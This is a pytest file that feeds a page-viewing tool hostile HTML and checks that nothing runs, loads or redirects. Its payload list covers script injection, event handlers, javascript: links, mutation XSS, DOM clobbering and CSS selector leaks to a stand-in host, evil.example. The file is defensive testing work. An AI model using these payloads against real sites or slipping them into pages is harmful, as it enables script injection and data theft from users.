"""Pages that want to run, to load or to lead somewhere: shown on the page, they do nothing."""

import pytest

from tests.service.page.screen import Screen

EVIL = "http://evil.example"
TEXT = "The council of the valley met on Monday and spoke at length about the bridge, the mill and the weir."
RUN = "window.ran=1"
ATTACKS = {
    "script": f"<script>{RUN}</script><script src='{EVIL}/a.js'></script>",
    "handlers": f"<p onclick='{RUN}' onmouseover='{RUN}'>{TEXT}</p><img src=x onerror='{RUN}'><body onload='{RUN}'>",
    "links": f"""<p>{TEXT} <a href='javascript:{RUN}'>one</a> <a href='JaVa&#x09;script:{RUN}'>two</a>
        <a href='data:text/html,<script>{RUN}</script>'>three</a> <a href='//evil.example/x'>four</a>
        <a href='vbscript:x'>five</a></p>""",
    "svg": f"<svg onload='{RUN}'><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>{TEXT}</text></a></svg>",
    "base": f"<base href='{EVIL}/'><p>{TEXT} <a href='relative'>a link</a> <img src='picture.png'></p>",
    "styles": f"""<style>@import url({EVIL}/a.css); * {{ background: url({EVIL}/b.png) }}
        #paste[value^="a"] {{ background: url({EVIL}/c) }}</style><p style='background:url({EVIL}/d)'>{TEXT}</p>
        <link rel=stylesheet href='{EVIL}/e.css'>""",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'><p>{TEXT}</p>",
    "frames": f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>"
    f"<object data='{EVIL}/o'></object><embed src='{EVIL}/e'><form action='{EVIL}'><button>Go</button></form>",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>"
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "escape": f"</textarea></pre></article></div><script>{RUN}</script><template><script>{RUN}</script></template>",
    "names": "<form id=paste name=state><input name=getElementById><input id=view name=attributes></form>",
}


@pytest.mark.parametrize("read_as", ["html", "text"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_page_runs_loads_or_leads_away(screen: Screen, attack: str, read_as: str) -> None:
    page = (
        f"<html><head><title>News</title></head><body><h1>News</h1><p>{TEXT}</p>{ATTACKS[attack]}<p>{TEXT}</p></html>"
    )
    screen.paste(page)
    screen.choose("input", read_as)
    for label in ("related", "interface", "caption", "navigation"):
        screen.choose("include", label)

    for view in ("markdown", "text", "json", "reader"):
        screen.show(view)
        screen.page.locator(".block").last.click()
    screen.page.locator("#view").click()
    assert screen.page.evaluate("typeof window.ran") == "undefined"
    assert [address for address in screen.requests if not address.startswith(f"{screen.address}/")] == []
    assert screen.page.url.startswith(f"{screen.address}/")
    # What there is of links leads to the web in a tab of its own, and nowhere else.
    links = screen.page.locator("#view a[href]")
    assert all(link.get_attribute("target") == "_blank" for link in links.all())
    assert all((link.get_attribute("href") or "").startswith("http") for link in links.all())
    tags = screen.page.evaluate(
        "[...new Set([...document.querySelectorAll('#view *, #blocks *')].map(e => e.localName))]"
    )
    assert set(tags) <= set("div span p h1 h2 h3 h4 pre code a strong em br ul ol li table tbody tr th td".split())
